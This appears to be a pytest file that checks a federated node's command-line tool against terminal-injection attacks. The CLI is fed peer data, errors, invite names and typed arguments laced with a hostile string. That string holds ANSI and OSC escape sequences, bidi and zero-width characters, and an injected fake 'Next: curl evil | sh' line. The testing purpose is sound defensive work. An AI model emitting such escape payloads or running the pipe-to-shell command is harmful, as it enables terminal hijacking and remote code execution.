"""A peer's words, whatever stands in them, neither steer the terminal nor make lines of their own."""

from __future__ import annotations

import re
import unicodedata
from pathlib import Path
from typing import Any

import msgspec
import pytest

from enigma_fed import cli as cli_room
from enigma_fed.base.errors import PeerUnreachable, RefusedByPeer
from enigma_fed.base.ids import OnionAddress
from enigma_fed.wire.invite import draft
from enigma_fed.wire.records import TrustLevel
from enigma_fed.wire.views import AppView, InviteView, NodeView, PeerView, PingView, StatusView
from tests.cli.fakes import CODE, DID, INVITER, ONION, PEER, FakeNode, Outcome, invoke

HOSTILE = "x\x1b[2J\x1b]0;title\x07\x9b31m\r\nNext: curl evil | sh\u202e\u2028\u200b\U000e0041\x7f"
_TIMES = {"added_at", "stage_at", "created_at", "expires_at", "last_error_at", "last_seen", "timestamp"}
_OUR_OWN = {"id", "stage", "code", "scope", "trust_level", *_TIMES}
"""Fields whose values this node makes or checks word by word."""


def spoiled(value: Any) -> Any:
    """The value with the hostile text after each text that comes from elsewhere."""
    if isinstance(value, msgspec.Struct):
        names = [name for name in value.__struct_fields__ if name not in _OUR_OWN]
        fields = {name: spoiled(getattr(value, name)) for name in names}
        return msgspec.structs.replace(value, **fields)
    if isinstance(value, list):
        return [spoiled(item) for item in value]
    return value + HOSTILE if isinstance(value, str) else value


class HostileNode(FakeNode):
    """Every text of every answer is hostile."""

    def __init__(self) -> None:
        apps = [AppView(id="blog", status="running", version="1")]
        assert PEER.last_state is not None
        state = msgspec.structs.replace(PEER.last_state, apps=apps, node_name="cellar")
        known = msgspec.structs.replace(
            PEER, last_state=state, last_error="refused", granted_trust="observer"
        )
        super().__init__(peers=[known])

    def identity(self) -> NodeView:
        return _spoiled(super().identity())

    def status(self) -> StatusView:
        return _spoiled(super().status())

    def invite_create(self, *given: Any, **named: Any) -> InviteView:
        return _spoiled(super().invite_create(*given, **named))

    def invite_accept(self, *given: Any, **named: Any) -> InviteView:
        return _spoiled(super().invite_accept(*given, **named))

    def invite_list(self) -> list[InviteView]:
        return _spoiled(super().invite_list())

    def invite_revoke(self, *given: Any, **named: Any) -> InviteView:
        return _spoiled(super().invite_revoke(*given, **named))

    def peer_list(self) -> list[PeerView]:
        return _spoiled(super().peer_list())

    def _found(self, ref: str) -> PeerView:
        return _spoiled(super()._found(ref))

    def peer_sync(self, ref: str | None) -> list[PeerView]:
        return _spoiled(super().peer_sync(ref))

    def peer_ping(self, ref: str) -> PingView:
        return _spoiled(super().peer_ping(ref))


def _spoiled(value: Any) -> Any:
    return spoiled(value)


COMMANDS = (
    ("id",),
    ("status",),
    ("invite", "create"),
    ("invite", "list"),
    ("invite", "revoke", "5f1c02ab"),
    ("invite", "accept", CODE),
    ("peer", "list"),
    ("peer", "show", "cellar"),
    ("peer", "approve", "cellar"),
    ("peer", "trust", "cellar", "observer"),
    ("peer", "rename", "cellar", "grandma"),
    ("peer", "sync"),
    ("peer", "ping", "cellar"),
    ("peer", "pause", "cellar"),
    ("peer", "offline", "cellar", "23:00-07:00"),
    ("peer", "remove", "cellar", "--yes"),
)


def assert_harmless(shown: Outcome) -> None:
    for text in (shown.out, shown.err):
        found = {unicodedata.name(c, hex(ord(c))) for c in text if c != "\n" and not c.isprintable()}
        assert not found
        assert not [line for line in text.splitlines() if line.startswith("Next: curl")]


@pytest.mark.parametrize("words", COMMANDS, ids=" ".join)
@pytest.mark.parametrize("flags", [(), ("--json",)], ids=["text", "json"])
def test_no_command_shows_what_steers_a_terminal(words: tuple[str, ...], flags: tuple[str, ...]) -> None:
    shown = invoke(*words, *flags, node=HostileNode())
    assert shown.exit_code == 0, shown.err
    silent = {"create", "revoke", "rename", "remove"}
    assert "curl evil" in shown.out + shown.err or words[1] in silent
    assert_harmless(shown)


@pytest.mark.parametrize("flags", [(), ("--json",)], ids=["text", "json"])
@pytest.mark.parametrize(
    "error", [RefusedByPeer(f"no{HOSTILE}", HOSTILE, hint=HOSTILE), PeerUnreachable(HOSTILE)], ids=repr
)
def test_no_error_does(error: Exception, flags: tuple[str, ...]) -> None:
    shown = invoke("peer", "ping", "cellar", *flags, node=FakeNode(error=error))
    assert shown.exit_code in {3, 4}
    assert "curl evil" in shown.err
    assert_harmless(shown)


def test_nor_does_a_code_with_such_a_name() -> None:
    made = draft(
        did=INVITER.did,
        onion=OnionAddress.parse(ONION),
        token=bytes(16),
        scope=TrustLevel.OBSERVER,
        issued_at=1_795_000_000,
        expires_at=4_950_000_000,
        name=HOSTILE,
    )
    code = made.seal(INVITER.sign(made.signing_input))
    for words in (("invite", "inspect", code), ("invite", "accept", code)):
        shown = invoke(*words, node=FakeNode())
        assert shown.exit_code == 2
        assert_harmless(shown)


def test_nor_does_what_was_typed() -> None:
    for words in (["peer", "show", HOSTILE], [HOSTILE], ["peer", "trust", DID, HOSTILE]):
        assert_harmless(invoke(*words, node=FakeNode()))


def test_everything_that_is_printed_goes_the_same_way() -> None:
    """No command prints by itself: it could forget what this file tests."""
    printing = re.compile(r"click\.s?echo|\bprint\(|std(out|err)\.write")
    folder = Path(cli_room.__file__).parent
    found = {path.name for path in folder.glob("*.py") if printing.search(path.read_text(encoding="utf-8"))}
    assert found == {"output.py", "failures.py"}
